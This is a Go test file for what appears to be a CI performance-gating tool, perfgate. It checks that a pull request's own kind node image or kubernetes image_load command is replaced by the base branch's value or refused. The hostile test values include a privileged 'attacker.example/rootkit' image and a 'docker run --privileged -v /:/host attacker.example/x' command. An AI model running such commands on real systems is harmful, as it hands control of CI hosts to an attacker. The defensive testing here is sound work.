package session

import (
	"context"
	"errors"
	"path/filepath"
	"strings"
	"testing"

	"github.com/perfgate/perfgate/engine/internal/config"
)

// kindGate runs gateFromBase and rootKeysFromBase for --base v1 of
// pullRequest's repository, as gate does.
func kindGate(t *testing.T, files map[string]string, edit func(top string)) (*invocation, error) {
	t.Helper()
	pullRequest(t, files, edit)
	cfg, err := config.Load("perfgate.yml")
	if err != nil {
		t.Fatal(err)
	}
	g, base := baseInvocation(t, cfg)
	o := GateOptions{ConfigPath: "perfgate.yml"}
	if err := g.gateFromBase(context.Background(), base, o); err != nil {
		t.Fatal(err)
	}
	return g, g.rootKeysFromBase(context.Background(), base, o)
}

// TestKindNodeImageComesFromTheBase: kind runs kind.node_image as a
// privileged container, so a pull request's node image is never started:
// a changed one is replaced by the base's, with a warning, and one in a
// perfgate.yml the base does not have is refused.
func TestKindNodeImageComesFromTheBase(t *testing.T) {
	const kindConfig = testService + "target: kind\n"
	const hostile = "kind:\n  node_image: attacker.example/rootkit:latest\n"

	g, err := kindGate(t, map[string]string{"perfgate.yml": kindConfig + "kind:\n  node_image: kindest/node:v1.32.0\n"}, func(top string) {
		writeFile(t, filepath.Join(top, "perfgate.yml"), kindConfig+hostile)
	})
	if err != nil {
		t.Fatal(err)
	}
	if g.cfg.Kind.NodeImage != "kindest/node:v1.32.0" || g.rep.Config.Kind.NodeImage != "kindest/node:v1.32.0" {
		t.Errorf("node_image %q (report %q), want the base's kindest/node:v1.32.0", g.cfg.Kind.NodeImage, g.rep.Config.Kind.NodeImage)
	}
	if w := strings.Join(g.rep.Warnings, "\n"); !strings.Contains(w, "kind.node_image") || !strings.Contains(w, "attacker.example/rootkit:latest") {
		t.Errorf("warnings %q, want one naming the change", g.rep.Warnings)
	}

	// Unset at base: kind's default, not head's.
	g, err = kindGate(t, map[string]string{"perfgate.yml": kindConfig}, func(top string) {
		writeFile(t, filepath.Join(top, "perfgate.yml"), kindConfig+hostile)
	})
	if err != nil || g.cfg.Kind.NodeImage != "" {
		t.Errorf("node_image %q, %v; want kind's default", g.cfg.Kind.NodeImage, err)
	}

	// A perfgate.yml new in the pull request: nothing to take it from.
	_, err = kindGate(t, map[string]string{"README": "x"}, func(top string) {
		writeFile(t, filepath.Join(top, "perfgate.yml"), kindConfig+hostile)
	})
	var ce *ConfigError
	if err == nil || !errors.As(err, &ce) || !strings.Contains(err.Error(), `kind.node_image "attacker.example/rootkit:latest"`) || !strings.Contains(err.Error(), "base branch") {
		t.Errorf("err = %v, want a configuration error naming kind.node_image, its value and the fix", err)
	}

	// Another target never starts the node image: nothing to decide.
	g, err = kindGate(t, map[string]string{"perfgate.yml": testService}, func(top string) {
		writeFile(t, filepath.Join(top, "perfgate.yml"), testService+hostile)
	})
	if err != nil || len(g.rep.Warnings) != 0 {
		t.Errorf("target local: %v, warnings %q", err, g.rep.Warnings)
	}
}

// TestImageLoadComesFromTheBase: kubernetes.image_load runs with the
// invoker's groups (docker, on a hosted runner: as good as root), so on
// target kubernetes a pull request's command never runs: a changed one is
// replaced by the base's, with a warning; one the base lacks is refused.
func TestImageLoadComesFromTheBase(t *testing.T) {
	const k8s = testService + "target: kubernetes\n"
	const safe = "kubernetes:\n  image_load: [kind, load, image-archive, \"{archive}\"]\n"
	const hostile = "kubernetes:\n  image_load: [docker, run, --privileged, -v, \"/:/host\", attacker.example/x]\n"

	g, err := kindGate(t, map[string]string{"perfgate.yml": k8s + safe}, func(top string) {
		writeFile(t, filepath.Join(top, "perfgate.yml"), k8s+hostile)
	})
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(g.cfg.Kubernetes.ImageLoad, " "); got != "kind load image-archive {archive}" {
		t.Errorf("image_load %q, want the base's", got)
	}
	if got := strings.Join(g.rep.Config.Kubernetes.ImageLoad, " "); got != "kind load image-archive {archive}" {
		t.Errorf("the report's image_load %q, want the base's", got)
	}
	if w := strings.Join(g.rep.Warnings, "\n"); !strings.Contains(w, "kubernetes.image_load") || !strings.Contains(w, "--privileged") {
		t.Errorf("warnings %q, want one naming the change", g.rep.Warnings)
	}

	// Unset at base: none, not head's.
	g, err = kindGate(t, map[string]string{"perfgate.yml": k8s}, func(top string) {
		writeFile(t, filepath.Join(top, "perfgate.yml"), k8s+hostile)
	})
	if err != nil || len(g.cfg.Kubernetes.ImageLoad) != 0 {
		t.Errorf("image_load %q, %v; want none", g.cfg.Kubernetes.ImageLoad, err)
	}

	// A perfgate.yml new in the pull request: refused, naming the key.
	_, err = kindGate(t, map[string]string{"README": "x"}, func(top string) {
		writeFile(t, filepath.Join(top, "perfgate.yml"), k8s+hostile)
	})
	var ce *ConfigError
	if err == nil || !errors.As(err, &ce) || !strings.Contains(err.Error(), "kubernetes.image_load") || !strings.Contains(err.Error(), "base branch") {
		t.Errorf("err = %v, want a configuration error naming kubernetes.image_load and the fix", err)
	}

	// Target local never loads images: head's line is left alone.
	g, err = kindGate(t, map[string]string{"perfgate.yml": testService}, func(top string) {
		writeFile(t, filepath.Join(top, "perfgate.yml"), testService+hostile)
	})
	if err != nil || len(g.rep.Warnings) != 0 {
		t.Errorf("target local: %v, warnings %q", err, g.rep.Warnings)
	}
}
